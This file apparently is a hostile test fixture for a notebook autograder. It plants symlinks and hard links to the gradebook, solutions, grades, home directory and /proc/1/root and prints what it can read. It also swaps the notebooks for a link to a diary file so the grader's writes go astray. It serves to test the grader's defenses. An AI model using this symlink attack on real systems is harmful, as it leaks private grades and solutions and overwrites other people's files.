# ruff: noqa
"""Leaves links in its folder that lead out, for the grader to follow when it collects or cleans.

Must not gain or harm: a file behind a link.
"""
# ends: graded

# %% loss
import os

import numpy as np

targets = {
    "gradebook.db": known.course + "/gradebook.db",
    "solutions": known.course + "/solutions",
    "home": known.home,
    "root": "/proc/1/root",
    "result.json": known.course + "/grades",
}
for name, target in targets.items():
    try:
        os.symlink(target, name)
        print(os.listdir(name) if os.path.isdir(name) else open(name, "rb").read(1000))
    except OSError as error:
        print(name, error)
    try:
        os.link(target, name + "_hard")
    except OSError as error:
        print(name, error)
# The notebook itself becomes a link, so that whoever writes the result writes elsewhere.
for name in os.listdir("."):
    if name.endswith(".ipynb"):
        os.remove(name)
        os.symlink(known.home + "/diary.txt", name)
